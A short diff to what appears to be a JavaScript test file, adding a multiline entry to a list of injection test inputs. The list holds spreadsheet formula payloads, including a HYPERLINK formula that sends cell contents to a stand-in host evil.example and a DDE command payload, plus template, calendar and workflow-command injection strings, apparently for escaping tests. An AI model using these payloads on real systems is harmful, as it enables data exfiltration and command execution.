@@ -18,6 +18,7 @@ const BEGINNINGS = [
   ...['=HYPERLINK("https://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'],
   ...['::error file=x::y', 'BEGIN:VEVENT', '#eval("1")', '<pwn-ed>', '{{7*7}}', '# Đặc', '- Đặc'],
   ...["'=1+1", '"=1+1"', '%0A', '\\', '"', "'", 'Đặc'.repeat(60)],
+  'a\nBEGIN:VEVENT\nX-PWNED:1\n::error file=x::y\n=1+1',
 ];
 
 /** A name of a file that is more than letters in addresses, attributes and style sheets. */
